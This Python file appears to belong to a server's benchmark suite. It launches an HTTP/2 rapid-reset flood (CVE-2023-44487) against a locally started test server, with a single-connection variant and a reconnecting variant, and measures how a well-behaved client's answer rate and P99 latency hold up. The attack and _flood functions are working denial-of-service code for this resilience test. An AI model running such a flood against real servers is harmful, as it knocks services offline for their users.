"""Attack a server with rapid resets (CVE-2023-44487), and measure what a good client notices.

One connection begins 10,000 calls a second, without bodies, and gives each up 10 ms later: the server has taken them up
by then. In a second variant it connects again, up to 20 times a second, whenever the server has closed it. The good
client has a connection of its own.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

from bench.attacks import frames
from bench.attacks.clients import Load, begin, offer, outcome, results_of, steady
from bench.attacks.place import Place, place
from bench.harness import Claim, Conclusion, Raw
from bench.processes import ServerProcess
from bench.test_bed import CONFIG, known_median, known_ratio
from loadtest.open_loop import RANK

_RESETS_PER_S, _RECONNECTS_PER_S = 10_000, 20
_TICK_S = 0.01
_GOOD_PER_S, _CANDIDATES, _DEADLINE_S = 200.0, 64, 0.1
#: Connections that the attacker opens in a second; none is the client without an attack.
_VARIANTS = {"alone": None, "one connection": 0, "connecting again": _RECONNECTS_PER_S}


@dataclass(frozen=True, slots=True)
class ResetsPlan:
    rounds: int = 3
    step_s: float = 30.0


QUICK = ResetsPlan(rounds=1, step_s=1.0)


def measure(*, quick: bool = False, config: Path = CONFIG) -> Iterator[Raw]:
    """Run the benchmark. Raises BenchmarkError if the server does not start."""
    plan = QUICK if quick else ResetsPlan()
    with place(config) as ground, ground.server("server") as server:
        rounds: list[dict[str, Any]] = []
        for _ in range(plan.rounds):
            rounds.append({name: _step(plan, ground, server, again) for name, again in _VARIANTS.items()})
            yield {"rounds": rounds}


def _step(plan: ResetsPlan, ground: Place, server: ServerProcess, again_per_s: int | None) -> dict[str, Any]:
    good = Load(server.address, ground.requests(_CANDIDATES), _DEADLINE_S, steady(_GOOD_PER_S, plan.step_s))
    jobs: list[Any] = [partial(offer, (good,))]
    if again_per_s is not None:
        jobs.append(partial(attack, server.address, again_per_s, plan.step_s))
    closed = server.metric("pinrank_connections_closed_total")
    (samples,), *attacked = results_of(*jobs)
    return {
        **outcome(samples, _DEADLINE_S),
        "attack": attacked[0] if attacked else None,
        "closed_by_server": server.metric("pinrank_connections_closed_total") - closed,
    }


def attack(address: str, again_per_s: int, duration_s: float) -> dict[str, float]:
    """Begin calls and give them up, in a job; return how many, over how many connections."""
    block = frames.header_block(frames.call_headers(RANK.encode()))
    host, _, port = address.rpartition(":")
    begin()
    ends_s = time.monotonic() + duration_s
    sent = connections = 0
    while time.monotonic() < ends_s:
        connections += 1
        next_s = time.monotonic() + (1 / again_per_s if again_per_s else duration_s)
        with contextlib.suppress(OSError), socket.create_connection((host, int(port)), timeout=5) as own:
            sent = _flood(own, block, ends_s, sent)
        time.sleep(max(0.0, min(next_s, ends_s) - time.monotonic()))
    return {"resets": sent, "connections": connections, "per_s": sent / duration_s}


def _flood(own: socket.socket, block: bytes, ends_s: float, sent: int) -> int:
    """Send resets at their rate until the server closes the connection; return the number of all sent so far."""
    own.settimeout(0)
    rest, streams = frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0), range(1, 1, 2)
    at_once = int(_RESETS_PER_S * _TICK_S)
    while (now_s := time.monotonic()) < ends_s:
        with contextlib.suppress(BlockingIOError):
            # An attacker that is slower than its rate because the server does not read sends what it can.
            if not rest:
                before, streams = streams, range(streams.stop, streams.stop + 2 * at_once, 2)
                rest = frames.given_up(before) + frames.begun(streams, block)
                sent += len(before)
            rest = rest[own.send(rest) :]
        try:
            while True:
                if not own.recv(1 << 16):
                    return sent
        except BlockingIOError:
            pass
        except OSError:
            return sent
        if not rest:
            time.sleep(max(0.0, now_s + _TICK_S - time.monotonic()))
    return sent


def conclude(raw: Raw) -> Conclusion:
    rounds = raw["rounds"]
    alone_ms = [r["alone"]["p99_ms"] for r in rounds]
    claims: list[Claim] = []
    summary: dict[str, float | None] = {}
    for name in _VARIANTS:
        found = [r[name] for r in rounds]
        good, offered = (sum(one[key] for one in found) for key in ("good", "offered"))
        p99_ms = [one["p99_ms"] for one in found]
        if name != "alone":
            what = f"under resets, {name}"
            claims.append(Claim.ratio(f"calls answered in time {what}", good, offered, 0.99, "at_least"))
            claims.append(
                Claim(
                    f"P99 {what}, over without",
                    known_ratio(p99_ms, alone_ms), 2.0, "ratio", "at_most", "a client had no answers",
                )
            )  # fmt: skip
            summary[f"{name}, resets/s"] = known_median([one["attack"]["per_s"] for one in found])
            summary[f"{name}, connections"] = sum(one["attack"]["connections"] for one in found)
        summary[f"{name}, good share"] = good / offered if offered else None
        summary[f"{name}, P99 ms"] = known_median(p99_ms)
    return Conclusion(summary, tuple(claims))
